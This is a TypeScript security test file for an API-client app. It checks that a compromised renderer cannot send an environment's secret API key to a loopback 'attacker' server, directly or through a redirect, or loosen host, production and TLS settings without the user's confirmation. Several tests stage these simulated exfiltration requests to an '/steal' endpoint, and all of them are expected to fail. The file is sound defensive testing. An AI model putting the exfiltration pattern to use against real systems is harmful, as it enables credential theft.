/**
 * What a compromised renderer can do with the IPC channels it has, against real local servers:
 * it cannot send an environment's secrets to a host of its choice. An empty allowed-hosts list of
 * an environment holding secrets is filled from the hosts it names before anything leaves, and
 * every widening (hosts, production, its question, TLS) waits for a confirmation the main process
 * asks for, which the renderer cannot answer.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Result } from '../../../shared/errors';
import { emptyDraft } from '../../../shared/runner/draft';
import { createMainServices, type MainServices } from '../services';
import { TEST_SCRYPT, tempDir } from '../../../testing/vault';
import type { ConfirmationPort, ConfirmationQuestion } from './confirmation';

const API_KEY = 'shop-api-key-5f1e0c9a7b3d';

interface Server {
  host: string;
  seen: string[];
  close(): Promise<void>;
}

/** A loopback server recording what it received; `/hop?to=URL` redirects there. */
async function listen(): Promise<Server> {
  const seen: string[] = [];
  const server = http.createServer((request, response) => {
    seen.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
    const to = new URL(request.url ?? '/', 'http://x').searchParams.get('to');
    if (to) response.writeHead(307, { location: to }).end();
    else response.end('{"ok":true}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

class AnsweringPort implements ConfirmationPort {
  answer = false;
  readonly asked: ConfirmationQuestion[] = [];
  async confirm(question: ConfirmationQuestion) {
    this.asked.push(question);
    return this.answer;
  }
}

const code = (result: Result<unknown>) => (result.ok ? 'ok' : result.error.code);

let app: MainServices;
let shop: Server;
let attacker: Server;
let port: AnsweringPort;
let environmentId: string;
let credentialId: string;

async function start(confirmation: ConfirmationPort | undefined) {
  app = await createMainServices({ dataDir: tempDir(), scryptCost: TEST_SCRYPT, log: () => {}, ...(confirmation ? { confirmation } : {}) });
  await app.handlers['vault:setup']({ passphrase: 'compromised renderer test' });
  const environment = await app.handlers['environments:create']({ name: 'Shop' });
  environmentId = environment.id;
  await app.handlers['variables:set']({ environmentId, name: 'baseUrl', value: `http://${shop.host}`, secret: false });
  await app.handlers['variables:set']({ environmentId, name: 'apiKey', value: API_KEY, secret: true });
  const credential = await app.handlers['credentials:create']({
    name: 'Shop key',
    recipe: { version: 1, kind: 'static', token: '{{apiKey}}', use: { in: 'header', name: 'Authorization', value: 'Bearer {{token}}' } },
    environmentIds: [environmentId],
  });
  credentialId = credential.id;
}

const send = (url: string, withCredential = true) =>
  app.dispatch('runner:send', {
    draft: emptyDraft({ url, environmentId, credentialId: withCredential ? credentialId : null, ...(withCredential ? {} : { headers: [{ name: 'X-Key', value: '{{apiKey}}', enabled: true }] }) }),
    sendId: `send-${Math.random().toString(16).slice(2)}`,
  });
const allowedHosts = () => app.workspace.read().environments.find((e) => e.id === environmentId)!.allowedHosts;

beforeEach(async () => {
  shop = await listen();
  attacker = await listen();
  port = new AnsweringPort();
});
afterEach(async () => {
  await app.dispose();
  await shop.close();
  await attacker.close();
});

describe('a compromised renderer', () => {
  it('cannot send secrets of an environment with an empty allowed-hosts list anywhere but where it names', async () => {
    await start(port);
    expect(allowedHosts()).toEqual([]);
    expect(code(await send(`http://${attacker.host}/steal`))).toBe('host-not-allowed');
    expect(code(await send(`http://${attacker.host}/steal`, false))).toBe('host-not-allowed');
    expect(attacker.seen).toEqual([]);
    // The list was filled from what the environment names, and saved.
    expect(allowedHosts()).toEqual([shop.host]);
    expect(code(await send(`http://${shop.host}/orders`))).toBe('ok');
    expect(shop.seen).toEqual([`GET /orders Bearer ${API_KEY}`]);
    // Pointing a variable elsewhere afterwards does not move the list.
    await app.handlers['variables:set']({ environmentId, name: 'baseUrl', value: `http://${attacker.host}`, secret: false });
    expect(code(await send(`http://${attacker.host}/steal`))).toBe('host-not-allowed');
    expect(attacker.seen).toEqual([]);
    expect(port.asked).toEqual([]);
  });

  it('cannot have a redirect take a request with secrets outside the allowed hosts', async () => {
    await start(port);
    const result = await send(`http://${shop.host}/hop?to=${encodeURIComponent(`http://${attacker.host}/steal`)}`);
    expect(result).toMatchObject({ ok: false, error: { code: 'redirect-refused' } });
    expect(result.ok ? '' : result.error.message).toContain(`redirected to ${attacker.host}, which is not among the environment's allowed hosts`);
    const plain = await send(`http://${shop.host}/hop?to=${encodeURIComponent(`http://${attacker.host}/steal`)}`, false);
    expect(plain.ok ? '' : plain.error.message).toContain(`redirected to ${attacker.host}, which is not among the environment's allowed hosts`);
    expect(attacker.seen).toEqual([]);
  });

  it('cannot widen the allowed hosts, production or TLS settings without the user confirming outside the window', async () => {
    await start(port);
    // Before any use, the hosts it names are what is in force; after the first use, they are saved.
    expect(code(await app.dispatch('environments:update', { id: environmentId, allowedHosts: [attacker.host] }))).toBe('not-confirmed');
    expect(code(await send(`http://${shop.host}/orders`))).toBe('ok');
    port.asked.length = 0;
    const widen = [
      { allowedHosts: [shop.host, attacker.host] },
      { allowedHosts: [] },
      { allowedHosts: ['127.0.0.1'] },
      { confirmProduction: false },
      { allowInsecureTls: true },
    ];
    for (const settings of widen) {
      expect(code(await app.dispatch('environments:update', { id: environmentId, ...settings }))).toBe('not-confirmed');
    }
    expect(port.asked.map((q) => q.detail)).toEqual([
      `Secrets may also go to: ${attacker.host}`,
      `Allowed hosts emptied (was: ${shop.host})`,
      'Secrets may also go to: 127.0.0.1',
      'No question before a token fetch or a request in production',
      'TLS certificates no longer verified',
    ]);
    const stored = app.workspace.read().environments.find((e) => e.id === environmentId)!;
    expect(stored).toMatchObject({ allowedHosts: [shop.host], confirmProduction: true, allowInsecureTls: false });
    expect(code(await send(`http://${attacker.host}/steal`))).toBe('host-not-allowed');
    expect(attacker.seen).toEqual([]);

    // Narrowing asks nothing; the user's own "yes" widens.
    port.asked.length = 0;
    expect(code(await app.dispatch('environments:update', { id: environmentId, production: true }))).toBe('ok');
    expect(code(await app.dispatch('environments:update', { id: environmentId, allowedHosts: [shop.host] }))).toBe('ok');
    expect(port.asked).toEqual([]);
    expect(code(await app.dispatch('environments:update', { id: environmentId, production: false }))).toBe('not-confirmed');
    port.answer = true;
    expect(code(await app.dispatch('environments:update', { id: environmentId, allowedHosts: [shop.host, attacker.host], production: false }))).toBe('ok');
    expect(port.asked.at(-1)!.detail).toBe(`Secrets may also go to: ${attacker.host}\nNo longer marked as production`);
    expect(code(await send(`http://${attacker.host}/now-allowed`))).toBe('ok');
  });

  it('cannot clone production secrets into a non-production environment without the confirmation', async () => {
    await start(port);
    await app.handlers['environments:update']({ id: environmentId, production: true });
    const clone = { id: environmentId, name: 'Shop copy', includeSecrets: true, production: false };
    expect(code(await app.dispatch('environments:clone', clone))).toBe('not-confirmed');
    expect(app.workspace.read().environments.map((e) => e.name)).toEqual(['Shop']);
    expect(code(await app.dispatch('environments:clone', { ...clone, includeSecrets: false }))).toBe('ok');
  });

  it('is refused every widening where no confirmation can be asked', async () => {
    await start(undefined);
    const result = await app.dispatch('environments:update', { id: environmentId, allowedHosts: [attacker.host] });
    expect(result).toMatchObject({ ok: false, error: { code: 'confirmation-unavailable' } });
    expect(allowedHosts()).toEqual([]);
  });
});
